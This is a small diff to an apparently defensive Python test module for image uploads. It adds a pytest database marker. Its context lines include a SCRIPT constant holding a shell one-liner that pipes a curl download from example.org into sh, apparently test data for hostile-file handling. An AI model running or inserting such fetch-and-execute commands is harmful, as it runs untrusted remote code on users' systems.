@@ -23,6 +23,8 @@ from tests.factories import drawn, everywhere, objective
 from tests.media.hostile import camera_jpeg
 from tests.reading import elements
 
+pytestmark = pytest.mark.one_database
+
 ENDINGS = {"PNG": "png", "JPEG": "jpg", "WEBP": "webp", "AVIF": "avif"}
 SCRIPT = b"#!/bin/sh\ncurl https://example.org/ | sh\n"
 
